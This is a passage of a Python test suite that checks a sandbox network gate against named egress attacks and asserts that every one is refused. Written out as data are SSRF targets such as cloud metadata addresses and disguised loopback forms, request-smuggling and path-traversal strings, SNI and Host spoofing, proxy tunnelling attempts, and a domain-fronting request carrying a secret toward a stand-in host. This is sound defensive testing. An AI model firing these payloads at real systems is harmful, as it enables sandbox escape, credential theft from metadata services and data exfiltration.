# SPDX-License-Identifier: Apache-2.0
"""Attacks on a sandbox's network, row by row (the names are those of the security study): what a hostile program gets
is exactly this refusal, and nothing of it is asked, connected to or sent, by what the servers and a capture of every
interface have seen. As root and as a plain user.
"""

import json
import os
import re
import select
import shutil
import socket
import subprocess
import unittest

from attackkit import INSIDE, Attack, Capture
from helpers import wait_until
from internet import DNS, OTHER, OTHER6, PRIVATE, PUBLIC, PUBLIC6, Internet
from jailkit import IS_ROOT, PATH, PLAIN_ID, World

NET = None
ONLY = {"rules": [{"action": "allow", "domain": "allowed.test"}]}
LOOPBACK = "loopback: a port that the gate serves"
PROXY = 'say("198.18.0.1", 3128, %s)'
VALUE = "s3cr3t-value-of-the-test-0123456789"
WRAPPED = {"mapped.test": "::ffff:169.254.169.254", "nat64.test": "64:ff9b::a9fe:a9fe",
           "sixtofour.test": "2002:a9fe:a9fe::1", "compatible.test": "::169.254.169.254",
           "teredo.test": "2001:0:0:0:0:0:5601:5601", "isatap.test": "2001:db8:77::5efe:a9fe:a9fe",
           "local64.test": "64:ff9b:1::a9fe:a9fe", "ten64.test": "64:ff9b::a4d:a", "loop6to4.test": "2002:7f00:1::1",
           "linklocal.test": "fe80::1", "group.test": "ff02::1", "zero6.test": "::"}
SPELLED = {"zero.test": "0.0.0.0", "loop.test": "127.0.0.1", "private.test": PRIVATE[0], "lan.test": "192.168.88.1",
           "metadata.test": "169.254.169.254", "metadata.google.internal": "169.254.169.254",
           "alibaba.test": "100.100.100.200", "azure.test": "168.63.129.16", "ec2.test": "fd00:ec2::254",
           "shared.test": "100.64.77.10", "own.test": "198.18.0.1", "broadcast.test": "255.255.255.255",
           "loop6.test": "::1", "private6.test": "fd77::10"}


def setUpModule():
    global NET
    if not IS_ROOT:
        raise unittest.SkipTest("needs root to make network namespaces")
    NET = Internet().usual()
    unittest.addModuleCleanup(NET.close)
    Attack.NET = NET
    NET.zone.update({name: [address] for name, address in {**WRAPPED, **SPELLED}.items()})
    NET.zone.update({"chain.test": ("CNAME", "second.test"), "second.test": ("CNAME", "third.test"),
                     "third.test": [PRIVATE[0]], "astray.test": ("CNAME", "other.test")})
    NET.zone.update({"host.test": ["203.0.113.1"], "second.host.test": ["203.0.113.2"],
                     "host6.test": ["2001:db8:77::1"]})
    NET.here.run("ip", "addr", "add", "203.0.113.2/24", "dev", "up0")
    NET.here.run("ip", "addr", "add", "192.168.88.1/24", "dev", "up0")  # the host's own network


def get(name, why, port=80):
    return f"403 brig: {name}:{port} is denied: {why}"


def is_what(address):
    for what, pattern in (("loopback", r"127\.|::1$"), ("this host", r"0\.|::$"),
                          ("metadata service", r"169\.254\.1(69|70)|100\.100\.100|168\.63|fd00:ec2"),
                          ("shared (carrier NAT)", r"100\.64"), ("the gate's own", r"198\.18"), ("broadcast", "255"),
                          ("link-local", "fe80|169"), ("multicast", "ff02"),
                          ("private", ".")):
        if re.match(pattern, address):
            return f"{address} is {what}, and no cidr rule names it"
    return None


class Rows(Attack):
    """Mixed into a class for each kind of caller."""

    LIMIT_SECONDS = 180

    def curl(self, network, *words, **members):
        done = self.d.run(self.box(network, **members), "curl", "-sS", "--max-time", "20", *words)
        return done["outcome"]["exit_code"], done["stdout"]

    # ---- no network, no rules ----

    NOWHERE = {f'say("{PUBLIC}", 80)': "ENETUNREACH", f'say("{PUBLIC6}", 443)': "ENETUNREACH",
               'say("127.0.0.1", 80)': "ECONNREFUSED", 'say("::1", 53)': "ECONNREFUSED",
               'say("198.18.0.1", 3128)': "ENETUNREACH", 'udp("8.8.8.8", 53, b"x")': "ENETUNREACH",
               f'udp("{PUBLIC6}", 443, b"x")': "ENETUNREACH", 'udp("127.0.0.1", 53, b"x")': "ECONNREFUSED",
               'udp("255.255.255.255", 67, b"x")': "ENETUNREACH", 'udp("224.0.0.251", 5353, b"x")': "ENETUNREACH",
               'look_up("allowed.test")': "EAI_AGAIN", 'sock(2, 2, 1)': "EACCES", 'sock(10, 2, 58)': "EACCES",
               'sock(2, 3, 1)': "EPERM", 'sock(17, 3, 3)': "EAFNOSUPPORT"}

    def test_N01_net_none(self):
        outcomes = self.attack("none", self.NOWHERE)
        w = World(self.USER or 0, self.USER or 0)  # and without a daemon
        try:
            script = INSIDE + f"\nprint(json.dumps([eval(x) for x in {list(self.NOWHERE)!r}]))"
            done = NET.here.inside(lambda: w.run("--local", "--", "/usr/bin/python3", "-I", "-S", "-c", script))
        finally:
            w.close()
        self.assertEqual(json.loads(done.stdout), list(self.NOWHERE.values()), done.stderr)
        self.nothing_left(reached=[], may=())  # not a packet, on any interface
        self.row("N01", "net-none", *outcomes)

    def test_N18_empty_allow_list(self):
        for policy in ({"rules": []}, {}, {"default": "deny"}, {"rules": [{"action": "deny", "domain": "other.test"}]}):
            self.attack(policy, {'look_up("allowed.test")': "EAI_AGAIN", 'dns("allowed.test")': "REFUSED",
                                 f'get("{PUBLIC}")': get(PUBLIC, "default deny"),
                                 f'tls("{PUBLIC}", "allowed.test")': "reset", f'say("{PUBLIC}", 22)': "ECONNREFUSED"})
        for policy, where in (({"allow": []}, "allow"), ({"rules": None}, "rules"), (None, "network"),
                              ({"rules": [{"domain": "allowed.test"}]}, "rules[0].action")):
            answer = self.d.ask("POST", "/v1/sandboxes", {"network": policy})
            self.assertEqual(answer.status, 400, answer)
            self.assertIn(where, answer.json["error"]["message"])
        self.nothing_left(reached=[], may=())
        self.row("N18", "empty-allow-list", "REFUSED (DNS)", get(PUBLIC, "default deny"), "reset (TLS)")

    # ---- where to ----

    def canaries(self, *where):
        listeners = [NET.here.listen(*w) for w in where]
        for listener in listeners:
            self.addCleanup(listener.close)
        return lambda: self.assertEqual(select.select(listeners, [], [], 0)[0], [], "the host was reached")

    def test_N03_host_loopback(self):
        untouched = self.canaries(("127.0.0.1", 80), ("127.0.0.1", 443), ("127.0.0.1", 7777), ("::1", 80),
                                  ("::1", 7777))
        here, there = get("127.0.0.1", LOOPBACK), get("[::1]", LOOPBACK)
        proxy = 'say("198.18.0.1", 3128, "CONNECT %s HTTP/1.0\\r\\n\\r\\n")'
        cases = {**{f'get("{name}")': here for name in ("127.0.0.1", "127.1", "0x7f.1", "2130706433", "017700000001",
                                                        "0.0.0.0", "0", "::ffff:127.0.0.1", "localhost")},
                 'get("127.255.1.2")': get("127.255.1.2", LOOPBACK), 'get("::1")': there, 'get("::")': there,
                 'tls("127.0.0.1", "allowed.test")': "reset",
                 'get("127.0.0.1", "allowed.test")': here, 'say("127.0.0.1", 7777)': "ECONNREFUSED",
                 'say("::1", 7777)': "ECONNREFUSED", 'say("0.0.0.0", 7777)': "ECONNREFUSED",
                 proxy % "127.0.0.1:80": get("127.0.0.1", is_what("127.0.0.1")),
                 proxy % "[::1]:80": get("[::1]", is_what("::1")),
                 proxy % "[::ffff:127.0.0.1]:7777": get("127.0.0.1", is_what("127.0.0.1"), 7777),
                 proxy % "0.0.0.0:80": get("0.0.0.0", is_what("0.0.0.0")),
                 proxy % "localhost:80": get("localhost", "default deny"),
                 proxy % "127.1:80": "400 brig: :: is denied: CONNECT wants host:port",
                 proxy % "2130706433:80": "400 brig: :: is denied: CONNECT wants host:port",
                 proxy % "0x7f.1:80": "400 brig: :: is denied: CONNECT wants host:port"}
        outcomes = self.attack(ONLY, cases)
        # where every port is served, loopback is the sandbox's own
        self.attack("open", {'say("127.0.0.1", 7777)': "ECONNREFUSED", 'say("127.0.0.1", 80)': "ECONNREFUSED",
                             'say("::1", 7777)': "ECONNREFUSED",
                             proxy % "127.0.0.1:7777": get("127.0.0.1", is_what("127.0.0.1"), 7777),
                             PROXY % 'b"CONNECT localhost:7777 HTTP/1.0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: '
                             'localhost:7777\\r\\n\\r\\n"':
                             "200; " + get("localhost", is_what("127.0.0.1"), 7777)})
        untouched()
        self.nothing_left(reached=[], may=())
        self.row("N03", "host-loopback", *outcomes)

    def test_N04_metadata(self):
        names = [n for n in {**SPELLED, **WRAPPED} if n not in ("own.test",)]
        allowed = {"rules": [{"action": "allow", "domain": name} for name in names]}
        cases = {f'get("{name}")': get(name, "?") for name in names}
        got = self.inside(allowed, f"tell(*[eval(x) for x in {list(cases)!r}])")
        for name, said in zip(names, got):
            self.assertRegex(said, rf"^403 brig: {re.escape(name)}:80 is denied: \S+ is .*(loopback|this "
                             rf"host|private|metadata service|shared|broadcast|link-local|multicast|reserved).*, "
                                   "and no cidr rule names it$")
        numbers = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254")
        # opens the public internet, and no more
        wide = {"rules": [{"action": "allow", "cidr": "0.0.0.0/0"}, {"action": "allow", "cidr": "::/0"}]}
        for policy in (ONLY, wide, "open", {"default": "allow"}):
            self.attack(policy, {f'get("{n}")': get(f"[{n}]" if ":" in n else n, is_what(n)) for n in numbers} |
                        {'get("::ffff:169.254.169.254")': get("169.254.169.254", is_what("169.254.169.254"))})
            self.attack(policy, {f'tls("{n}", "allowed.test")': "reset" for n in numbers})
        self.assertEqual({name for name, _ in NET.asked} - set(names), set())
        self.nothing_left(reached=[], asked=names, may=(DNS,))
        self.row("N04", "metadata", got[names.index("metadata.google.internal")], got[names.index("nat64.test")],
                 "reset (TLS)")

    def test_N06_host_lan(self):
        untouched = self.canaries(("192.168.88.1", 80), ("192.168.88.1", 443), ("203.0.113.1", 80))
        numbers = ("192.168.88.1", "192.168.88.254", "10.77.0.10", "192.168.77.10", "172.17.0.1", "100.64.77.10",
                   "fd77::10")
        outcomes = []
        for policy in (ONLY, "open"):
            outcomes = self.attack(policy,
                                   {f'get("{n}")': get(f"[{n}]" if ":" in n else n, is_what(n)) for n in numbers})
        self.attack(ONLY, {'get("203.0.113.1")': get("203.0.113.1", "default deny")})
        # another sandbox's address stands for nothing here, even where the name itself is allowed
        theirs = self.inside(
            {"rules": [{"action": "allow", "domain": n} for n in ("other.test", "allowed.test", "www.allowed.test")]},
                             'tell(look_up("other.test", 2), look_up("allowed.test", 2), look_up("www.allowed.test", '
            '2), look_up("www.allowed.test", 10))')
        fresh = {"rules": [{"action": "allow", "domain": "allowed.test"}, {"action": "deny", "domain": "x.test"}]}
        nothing = "this address stands for no name here"
        self.attack(fresh, {f'get("{a}", "allowed.test")': get(f"[{a}]" if ":" in a else a, nothing) for a in theirs} |
                    {f'tls("{a}", "allowed.test")': "reset" for a in theirs})
        untouched()
        self.nothing_left(reached=[], may=())
        self.row("N06", "host-lan", outcomes[0], get(theirs[0], nothing))

    def test_N06_host_itself(self):
        """The host's public addresses are as good as its loopback, for who comes from the host: refused, by number and
        by name, unless exactly that one is allowed."""
        untouched = self.canaries(("203.0.113.1", 80), ("203.0.113.1", 443), ("203.0.113.2", 80),
                                  ("2001:db8:77::1", 80))
        own = "%s is this host's own, and no cidr rule names it"
        byname = {"rules": [{"action": "allow", "domain": "host.test"},
                            {"action": "allow", "domain": "second.host.test"},
                            {"action": "allow", "domain": "host6.test"},
                            {"action": "allow", "cidr": "203.0.113.0/24"}]}
        outcomes = self.attack("open", {'get("203.0.113.1")': get("203.0.113.1", own % "203.0.113.1"),
                                        'get("203.0.113.2")': get("203.0.113.2", own % "203.0.113.2"),
                                        'get("2001:db8:77::1")': get("[2001:db8:77::1]", own % "2001:db8:77::1"),
                                        'get("host.test")': get("host.test", own % "203.0.113.1")})
        self.attack(byname, {'get("host.test")': get("host.test", own % "203.0.113.1"),
                             'get("second.host.test")': get("second.host.test", own % "203.0.113.2"),
                             'get("host6.test")': get("host6.test", own % "2001:db8:77::1"),
                             'tls("host.test", "host.test")': "reset",
                             'get("203.0.113.1")': get("203.0.113.1", own % "203.0.113.1")})
        untouched()
        self.nothing_left(reached=[], asked=["host.test", "second.host.test", "host6.test"], may=(DNS,))
        self.row("N06", "host-itself", *outcomes)
        self.inside({"rules": [{"action": "allow", "cidr": "203.0.113.1/32", "protocol": "tcp"}]},
                    'tell(attempt(dial("203.0.113.1", 80).send, b"x"))')
        with self.assertRaises(AssertionError) as seen:  # that one is reached
            wait_until("that one is reached", untouched)
        self.assertNotIn("in vain", str(seen.exception))

    def test_N06_host_by_route(self):
        """The kernel's routes tell the host's addresses, whatever lo's MTU and ip_nonlocal_bind are."""
        settings = (("ip link set lo mtu 1500", "ip link set lo mtu 65536"),
                    ("ip -6 route add local 2001:db8:99::/64 dev lo", "ip -6 route del local 2001:db8:99::/64 dev lo"),
                    ("ip route add prohibit 198.51.100.77/32", "ip route del prohibit 198.51.100.77/32"),
                    ("ip -6 route add prohibit 2001:db8:98::7/128", "ip -6 route del prohibit 2001:db8:98::7/128"),
                    ("echo 1 > /proc/sys/net/ipv4/ip_nonlocal_bind", "echo 0 > /proc/sys/net/ipv4/ip_nonlocal_bind"))
        untouched = self.canaries(("203.0.113.2", 80), ("::", 80))
        own = "%s is this host's own, and no cidr rule names it"
        unknown = "%s is not known to be another host's (the kernel tells no route), and no cidr rule names it"
        for do, undo in settings:
            NET.here.run("sh", "-c", do)
            self.addCleanup(NET.here.run, "sh", "-c", undo)
        outcomes = self.attack("open", {f'get("{n}")': get(f"[{n}]" if ":" in n else n, why % n) for n, why in (
            ("203.0.113.1", own), ("203.0.113.2", own), ("2001:db8:77::1", own), ("2001:db8:99::5", own),
            ("64:ff9b::cb00:7102", own), ("2002:cb00:7102::1", own), ("198.51.100.77", unknown),
            ("2001:db8:98::7", unknown))})
        byname = {"rules": [{"action": "allow", "domain": "second.host.test"}]}
        self.attack(byname, {'get("second.host.test")': get("second.host.test", own % "203.0.113.2")})
        untouched()
        self.assertRegex(self.inside("open", f'tell(get("{PUBLIC}"))')[0], "^200 allowed")
        self.nothing_left(seen=[f"{PUBLIC} /"], asked=["second.host.test"], may=(DNS, PUBLIC))
        self.row("N06", "host-by-route", *outcomes)

    def test_N07_ipv6(self):
        v6 = {"rules": [{"action": "allow", "domain": "other.test"}, {"action": "allow", "domain": "private6.test"},
                        {"action": "deny", "cidr": OTHER6 + "/128"},
                        {"action": "deny", "cidr": OTHER + "/32"}]}
        outcomes = self.attack(ONLY,
                               {f'get("{PUBLIC6}")': get(f"[{PUBLIC6}]", "default deny"),
                                f'get("{OTHER6}", "allowed.test")': get(f"[{OTHER6}]", "default deny"),
                                f'tls("{PUBLIC6}", "allowed.test")': "reset",
                                f'tls("{OTHER6}", "allowed.test")': "reset", f'say("{PUBLIC6}", 22)': "ECONNREFUSED",
                                f'get("::ffff:{OTHER}")': get(OTHER, "default deny"),
                                'get("fe80::1%lo")': get("[fe80::1]", is_what("fe80::1")),
                                'dns("other.test", "AAAA")': "REFUSED", 'look_up("other.test", 10)': "EAI_AGAIN"})
        denied = self.inside(
            v6, 'tell(get("other.test"), get("private6.test"), get(look_up("other.test", 10), "other.test"))')
        self.assertRegex(denied[0], "^403 brig: other.test:80 is denied: .*rule [23]")
        self.assertEqual(denied[1], get("private6.test", is_what("fd77::10")))
        self.assertRegex(denied[2], "^403 brig: other.test:80 is denied: .*rule [23]")
        # a denied range stays denied however its addresses are wrapped
        wraps = (f"::ffff:{OTHER}", "64:ff9b::cb00:710b", "2002:cb00:710b::1")
        got = self.inside({"default": "allow", "rules": [{"action": "deny", "cidr": "203.0.113.11/32"}]},
                          f"tell(*[get(a) for a in {wraps!r}])")
        for said in got:
            self.assertRegex(said, "^403 brig: .* is denied: rule 0 ")
        self.nothing_left(reached=[], asked=("other.test", "private6.test"), may=(DNS,))
        self.row("N07", "ipv6", *outcomes)

    def test_N09_ip_literal(self):
        proxy = 'say("198.18.0.1", 3128, b"CONNECT %s HTTP/1.0\\r\\n\\r\\n" + hello("allowed.test"))'
        outcomes = self.attack(ONLY, {f'get("{PUBLIC}")': get(PUBLIC, "default deny"),
                                      f'get("{PUBLIC}", "allowed.test")': get(PUBLIC, "default deny"),
                                      f'tls("{PUBLIC}", "allowed.test")': "reset", f'tls("{PUBLIC}")': "reset",
                                      f'tls("{PUBLIC}", "allowed.test", port=80)': "reset",
                                      proxy % f"{PUBLIC}:443": get(PUBLIC, "default deny", 443),
                                      proxy % f"[{PUBLIC6}]:443": get(f"[{PUBLIC6}]", "default deny", 443),
                                      'look_up("allowed.test", 2) != "%s"' % PUBLIC: True})
        cut = (7, 35)  # accepted and reset: curl may find out before or after it has begun to speak
        self.assertIn(self.curl(ONLY, "--resolve", f"allowed.test:443:{PUBLIC}", "https://allowed.test/")[0], cut)
        self.assertIn(self.curl(ONLY, "--noproxy", "*", "--connect-to", f"allowed.test:443:{OTHER}:443",
                                "https://allowed.test/")[0],
                      cut)
        self.nothing_left(reached=[], may=())
        self.row("N09", "ip-literal", *outcomes)

    def test_N09_name_and_port(self):
        """What a rule opens is a name on a port: neither the name's other ports nor the port for other names."""
        policy = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": [8443], "protocol": "tcp"},
                            {"action": "allow", "domain": "other.test", "ports": [80]}]}
        first, second = ("default deny; rule 0 (allow allowed.test:8443 tcp) does not match",
                         "default deny; rule 1 (allow other.test:80) does not match")
        outcomes = self.attack(policy,
                               {'get("allowed.test")': get("allowed.test", first),
                                'get("allowed.test", "other.test")': get("allowed.test", first),
                                'tls("allowed.test", "allowed.test")': "reset",
                                'get("other.test", port=8443)': get("other.test", second, 8443),
                                'say("allowed.test", 22)': "ECONNREFUSED",
                                f'get("{PUBLIC}", "allowed.test", port=8443)': get(PUBLIC, "default deny", 8443)})
        self.nothing_left(reached=[], may=())
        self.row("N09", "name-and-port", *outcomes)

    def test_N03_ports_of_the_gate(self):
        """Where every port is redirected, the gate's own listeners are no way around it."""
        policy = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": "any"}]}
        where = ("127.0.0.1", "198.18.0.1", OTHER, "2001:2:0:ffff::1", "::1", OTHER6)
        got = self.inside(policy, f"tell(*[say(ip, port, 'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n') for ip "
                          f"in {where!r} for port in (65001, 65053)])")
        for said in got:
            self.assertRegex(said, "^(reset|closed|ECONNREFUSED|403 brig: .* is denied: .*)$")
        self.nothing_left(reached=[], may=())
        self.row("N03", "the gate's ports", *dict.fromkeys(got))

    # ---- what is said: TLS ----

    def test_N10_sni_spoof(self):
        spoofs = ('"other.test"', "", '"x.allowed.test"', '"allowed.test.other.test"', '"allowed.test", "other.test"',
                  '"other.test", "allowed.test"',
                  '"allowed.test\\0.other.test"', '"other.test\\0allowed.test"', '"allowed.test\\0"',
                  '"allowed.test.."', '".allowed.test"', '" allowed.test"', '"*.test"',
                  '"allowed_test"', '"all\\xefwed.test"', '""', '"198.19.0.0"', '"127.0.0.1"', '"a" * 300',
                  '"allowed.test", list_type=1',
                  '"allowed.test", more=extension(0, b"\\0\\x0d\\0\\0\\x0aother.test")',
                  '"allowed.test", more=extension(0xfe0d, bytes(40))', 'version=0x0301')
        cases = {f'tls("{OTHER}", "allowed.test")': "reset", f'tls("{OTHER6}", "allowed.test")': "reset",
                 **{f"tls(F, {s})": "reset" for s in spoofs},
                 # a name in pieces is read as a whole; a second hello is of no account
                 'say(F, 443, *[bytes([b]) for b in hello("other.test")], shut=False)': "reset",
                 'say(F, 443, hello("other.test") + hello("allowed.test"), shut=False)': "reset",
                 'say(F, 443, split(hello("other.test"), 7), shut=False)': "reset",
                 'say(F, 443, split(hello("other.test"), 1), shut=False)': "reset",
                 'say(F, 443, b"\\x80\\x2e\\1\\3\\1\\0\\x15\\0\\0\\0\\x10" + b"x" * 40, shut=False)': "reset",
                 'say(F, 443, b"\\x15\\3\\1\\0\\2\\1\\0" + hello("allowed.test"), shut=False)': "reset",
                 'say(F, 443, b"SSH-2.0-x\\r\\n")': "reset", 'say(F, 443, b"\\0" * 500)': "reset"}
        setup = ('F = look_up("allowed.test", 2)\ndef split(h, n):\n    return b"".join(h[:3] + struct.pack(">H", '
                 'len(h[5 + i:5 + i + n])) + h[5 + i:5 + i + n] for i in range(0, len(h) - 5, n))')
        outcomes = self.attack(ONLY, cases, setup)
        self.nothing_left(reached=[], may=())
        # the same name, spelled otherwise, and in pieces, is the same name
        self.capture = Capture(NET.here)
        self.attack(ONLY, {'tls(F, "allowed.test")': "tls", 'tls(F, "ALLOWED.Test")': "tls",
                           'say(F, 443, *[bytes([b]) for b in hello("allowed.test")], shut=False)': "tls",
                           'say(F, 443, split(hello("allowed.test"), 7), shut=False)': "tls"},
                    setup)
        packets = self.nothing_left(asked=["allowed.test"])
        self.assertTrue([p for p in packets if p[2] == PUBLIC and p[4] == 443], "the capture sees nothing")
        self.assertEqual(set(NET.reached), {("allowed", 443)})
        self.row("N10", "sni-spoof", *outcomes)

    # ---- what is said: HTTP ----

    def test_N12_host_mismatch(self):
        bad = "400 brig: allowed.test:80 is denied: a malformed request: "
        no = "403 brig: allowed.test:80 is denied: "
        cases = {'get("allowed.test", "other.test")': no + "Host is other.test",
                 'get("allowed.test", "")': bad + "Host is missing",
                 'get("allowed.test", "", version="1.0")': no + "Host is missing",
                 'get("allowed.test", "allowed.test:81")': no + "Host has port 81",
                 'get("allowed.test", "allowed.test, other.test")': bad + "Host is malformed",
                 'get("allowed.test", "allowed.test\\r\\nHost: other.test")': bad + "two Host fields",
                 'get("allowed.test", "allowed.test\\r\\nhOST: allowed.test")': bad + "two Host fields",
                 'get("allowed.test", "allowed.test@other.test")': bad + "Host is malformed",
                 'get("allowed.test", "allowed.test#x")': bad + "Host is malformed",
                 'get("allowed.test", "allowed.test/x")': bad + "Host is malformed",
                 'get("allowed.test", "198.19.0.0")': no + "Host is 198.19.0.0",
                 'get("allowed.test", path="http://other.test/")': no + "the target is other.test/",
                 'get("allowed.test", "other.test", path="http://allowed.test/")': no + "Host is other.test",
                 'get("allowed.test", path="https://allowed.test/")': no + "the target's scheme is not http",
                 'get("allowed.test", path="http://allowed.test@other.test/")': no
                 + "the target is not a host: allowed.test@other.test/",
                 'say("allowed.test", 80, "CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n")': no
                 + "CONNECT needs a rule with protocol tcp",
                 'say("allowed.test", 80, "CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n")':
                 no + "CONNECT needs a rule with protocol tcp",
                 'say("allowed.test", 80, "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0")':
                 bad.replace("400", "505") + "HTTP/1.0 and HTTP/1.1 are spoken here",
                 'say("allowed.test", 80, H + "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: '
                 '13\\r\\n\\r\\n")': no + "an upgrade of HTTP needs a rule with protocol tcp",
                 'say("allowed.test", 80, H + "X: a\\r\\n Host: other.test\\r\\n\\r\\n")': bad + "a folded field",
                 'say("allowed.test", 80, H.replace("\\r", "") + "\\n")': bad
                 + "a line of the head does not end with CR LF",
                 'say("allowed.test", 80, H + "X: a\\rHost: other.test\\r\\n\\r\\n")': bad
                 + "a control byte in a field",
                 'say("allowed.test", 80, H + "X: a\\0b\\r\\n\\r\\n")': bad + "a control byte in a field",
                 'say("allowed.test", 80, H + "Host : other.test\\r\\n\\r\\n")': bad + "a malformed field name",
                 'say("allowed.test", 80, "GET\\t/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")': "reset",
                 'say("allowed.test", 80, "GET /\\r\\n\\r\\n")': bad + "a malformed request target",
                 'say("allowed.test", 80, "SSH-2.0-x\\r\\n")': "reset",
                 'say("allowed.test", 80, hello("other.test"), shut=False)': "reset",
                 PROXY % 'b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n"':
                 "400 brig: :: is denied: Host is not CONNECT's target",
                 PROXY % 'b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n"':
                 "400 brig: :: is denied: Host is not CONNECT's target",
                 PROXY % 'b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"': no
                 + "Host is other.test",
                 PROXY % 'b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n" + '
                 'hello("other.test")': "200",
                 PROXY % 'b"CONNECT allowed.test:80 HTTP/1.0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: '
                 'other.test\\r\\n\\r\\n"': "200; " + no + "Host is other.test"}
        self.attack(ONLY, cases, 'H = "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n"')
        self.nothing_left(reached=[], may=())
        self.row("N12", "host-mismatch", no + "Host is other.test", bad + "two Host fields")

    def test_N12_smuggling(self):
        """What two readers could cut into requests at different places: nothing that was not judged reaches the
        server."""
        rules = {"rules":
                 [{"action": "allow", "domain": "allowed.test", "methods": ["GET", "POST"], "paths": ["/pub/"]}]}
        evil = "GET /evil HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
        post = 'say("allowed.test", 80, "POST /pub/%s HTTP/1.1\\r\\nHost: allowed.test\\r\\n%s")'
        bad = "400 brig: allowed.test:80 is denied: a malformed request: "
        denied = ("403 brig: allowed.test:80 is denied: default deny; rule 0 (allow allowed.test:80,443 GET,POST "
                  "/pub/) does not match")
        cases = {post % ("a", "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil): bad
                 + "both Content-Length and Transfer-Encoding",
                 post % ("b", "Content-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\n01234" + evil): bad
                 + "two Content-Lengths differ",
                 post % ("c", "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil): bad.replace("400", "501")
                 + "the only transfer coding here is chunked",
                 post % ("d", "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil): bad
                 + "a malformed field name",
                 post % ("e", "Transfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil): bad
                 + "a control byte in a field",
                 f'say("allowed.test", 80, "GET /pub/f HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n{evil}")':
                 "200 allowed GET allowed.test /pub/f; " + denied,
                 post % ("g", "Content-Length: 0\\r\\n\\r\\n" + evil): "200 allowed POST allowed.test /pub/g; "
                 + denied,
                 post % ("h", "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil):
                 "200 allowed POST allowed.test /pub/h; " + denied,
                 **{f'get("allowed.test", path="{p}")': denied for p in ("/PUB/x", "/pub", "/evil?/pub/", "/pubx/")},
                 **{f'get("allowed.test", path="{p}")': denied + ": unclear path"
                    for p in ("/pub/../evil", "/pub/%2e%2e/evil", "/pub/..%2fevil", "/pub//../evil", "/pub/..;/evil",
                                                                                            "/pub/%252e%252e/evil",
                              "/pub/..\\\\evil", "/pub/%00/../x")}}
        self.attack(rules, cases)
        self.nothing_left(seen=["allowed.test /pub/f", "allowed.test /pub/g", "allowed.test /pub/h"],
                          asked=["allowed.test"])
        # bodies that are broken are cut off; what was judged may have arrived, what follows never does
        self.capture = Capture(NET.here)
        odd = ("1;a=\\nx\\r\\ny\\r\\n0\\r\\n\\r\\n", "0x1\\r\\nx\\r\\n0\\r\\n\\r\\n", "1\\r\\nxx\\r\\n0\\r\\n\\r\\n",
               "fffffffffffffffff\\r\\nx", "-1\\r\\n\\r\\n", "1 \\r\\nx\\r\\n0\\r\\n\\r\\n",
               "0\\r\\nGET /evil HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
               "0\\n\\n")
        got = self.inside(rules, "tell(%s)"
                          % ", ".join(post % ("odd", "Transfer-Encoding: chunked\\r\\n\\r\\n" + o + evil) for o in odd))
        self.assertEqual(set(got) - {"reset", "closed"}, set(), got)
        self.assertEqual([s[2] for s in NET.seen if "evil" in s[2]], [])
        self.row("N12", "smuggling", bad + "both Content-Length and Transfer-Encoding", denied)

    def brokered(self, name, *hosts):
        answer = self.d.ask("PUT", f"/v1/secrets/{name}",
                            {"value": VALUE,
                             "broker": {"hosts": list(hosts), "header": "Authorization", "format": "Bearer %s"}})
        self.assertEqual(answer.status // 100, 2, answer)
        return {"rules": [{"action": "allow", "domain": "allowed.test"},
                          {"action": "allow", "domain": "other.test"}]}, [{"name": name, "env": "TOKEN"}]

    def test_N13_domain_fronting(self):
        network, secrets = self.brokered("FRONT", "allowed.test")
        status, said = self.curl(network, "-w", "%{http_code}", "-H", "Host: other.test", "https://allowed.test/",
                                 secrets=secrets)
        self.assertEqual((status, said[-3:]), (0, "421"), said)
        self.assertIn("brig: Host is not allowed.test, which this connection is for", said)
        self.nothing_left(may=(DNS, PUBLIC, PUBLIC6), asked=["allowed.test"])
        self.row("N13", "domain-fronting", said.splitlines()[0])
        # where the gate does not open TLS it cannot see it: docs/NETWORK.md says so
        self.assertEqual(self.curl(ONLY, "-H", "Host: other.test", "https://allowed.test/"),
                         (0, "allowed GET other.test /\n"))

    # ---- explicit proxies ----

    def test_N15_socks(self):
        refused, unsupported = "050005020001000000000000 closed", "050005070001000000000000 closed"
        names = (b"other.test\0.allowed.test", b"allowed.test\0", b"\0allowed.test", b"", b"a" * 255, b"other.test",
                 b"x.allowed.test", b"127.0.0.1", b"2130706433", b"0x7f.1", b"127.1", b"::1",
                 b"localhost", b"allow\xc3\xa9d.test", b"allowed.test\n", b"allowed.test#.x", b"*.test",
                 b"allowed.test..", b".", b"allowed.test:443")
        addresses = ("203.0.113.10", "203.0.113.11", "127.0.0.1", "169.254.169.254", "0.0.0.0", "::1",
                     "::ffff:127.0.0.1", "64:ff9b::a9fe:a9fe", PUBLIC6, "198.18.0.1", "198.19.255.255")
        cases = {**{f"name({n!r})": refused for n in names}, **{f'address("{a}")': refused for a in addresses},
